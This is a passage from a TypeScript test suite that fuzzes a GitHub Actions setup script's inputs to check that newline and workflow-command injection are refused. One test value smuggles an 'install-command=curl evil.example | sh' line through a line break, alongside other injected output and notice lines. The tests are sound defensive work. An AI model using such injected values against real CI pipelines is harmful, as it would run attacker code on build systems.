    async (_id, c) => {
      const o = await outcomeOf(c);
      counts.cases++;
      durations.push([c.id, o.result.durationMs]);
      const problems = problemsOf(c, o);
      if (!c.valid && problems.length === 0) counts.clearErrors++;
      if (c.valid) counts.valid++;
      if (o.reachedNetwork) counts.reachedNetwork++;
      const r = o.result;
      expect(
        problems,
        `${c.id} value ${JSON.stringify(c.value.slice(0, 80))}\nerrors: ${r.annotations
          .filter((a) => a.level === 'error')
          .map((a) => a.message)
          .join(' | ')}\nlog tail:\n${r.stdout.slice(-1500)}`,
      ).toEqual([]);
    },
    180_000,
  );
});

// ---------- actions/setup: the detect script (composite, run with bash as test/setup-action.test.ts does) ----------

const hasTools = ['bash', 'jq'].every((tool) => spawnSync('which', [tool]).status === 0);

describe.skipIf(!hasTools)('input fuzzing: actions/setup detect script', () => {
  const setup = parseYaml(readFileSync(path.join(projectRoot, 'actions/setup/action.yml'), 'utf8')) as {
    runs: { steps: Array<{ id?: string; run?: string }> };
  };
  const detect = setup.runs.steps.find((s) => s.id === 'detect')?.run ?? '';
  let work: string;
  beforeAll(async () => {
    work = await mkdtemp(path.join(os.tmpdir(), 'setup-fuzz-'));
    await writeFile(path.join(work, 'package.json'), '{}');
    await writeFile(path.join(work, 'package-lock.json'), '{}');
  });
  afterAll(async () => rm(work, { recursive: true, force: true }));

  async function detectWith(env: Record<string, string>) {
    const output = path.join(work, `out-${Math.random().toString(36).slice(2)}`);
    await writeFile(output, '');
    const r = await new Promise<{ status: number | null; out: string }>((resolve, reject) => {
      const child = spawn('bash', ['-c', detect], {
        cwd: work,
        env: {
          PATH: process.env['PATH'] ?? '',
          GITHUB_OUTPUT: output,
          WORKING_DIRECTORY: '.',
          REQUESTED: 'auto',
          REQUESTED_VERSION: '',
          INSTALL_COMMAND: '',
          CACHE: 'true',
          ...env,
        },
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      let out = '';
      child.stdout.on('data', (b: Buffer) => (out += b.toString()));
      child.stderr.on('data', (b: Buffer) => (out += b.toString()));
      child.on('error', reject);
      child.on('close', (status) => resolve({ status, out }));
    });
    const outputs = parseKeyValueFile(await readFile(output, 'utf8'), 'GITHUB_OUTPUT');
    const injected = runnerLines(r.out).filter(
      (l) => parseWorkflowCommand(l)?.properties.title === INJECTED || /^\s*::notice/.test(l),
    );
    return { ...r, outputs, injected };
  }

  it.each([
    ['LF', `.${INJECT_LF}`],
    ['CR', `.${INJECT_CR}`],
    ['an output line', '.\ninstall-command=curl evil.example | sh'],
  ])(
    'a working-directory with a line break (%s) is refused with one escaped error, nothing written or injected',
    async (_what, value) => {
      const r = await detectWith({ WORKING_DIRECTORY: value });
      expect(r.status).toBe(1);
      const lines = runnerLines(r.out).filter(Boolean);
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatch(
        /^::error title=rail-actions setup::Input 'working-directory': must be a single line, got '\.%250[AD]/,
      );
      expect(r.injected).toEqual([]);
      expect(r.outputs).toEqual({});
    },
  );

  it('a multi-line install-command stays one output (delimiter form) and one log line', async () => {
    const r = await detectWith({ INSTALL_COMMAND: `npm ci${INJECT_LF}\nnode-cache=evil` });
    expect(r.status, r.out).toBe(0);
    expect(r.outputs['install-command']).toBe(`npm ci${INJECT_LF}\nnode-cache=evil`);
    expect(r.outputs['node-cache']).toBe('npm');
    expect(r.injected).toEqual([]);
  });

  it.each([
    ['package-manager', { REQUESTED: `pnpm${INJECT_LF}` }],
    ['package-manager-version', { REQUESTED_VERSION: `9${INJECT_LF}` }],
  ])('a line break in %s is refused with one escaped error', async (input, env) => {
    const r = await detectWith(env);
    expect(r.status).toBe(1);
    expect(runnerLines(r.out).filter(Boolean)).toEqual([
      expect.stringMatching(new RegExp(`^::error title=rail-actions setup::Input '${input}'.*%250A::notice`)),
    ]);
    expect(r.injected).toEqual([]);
  });
});
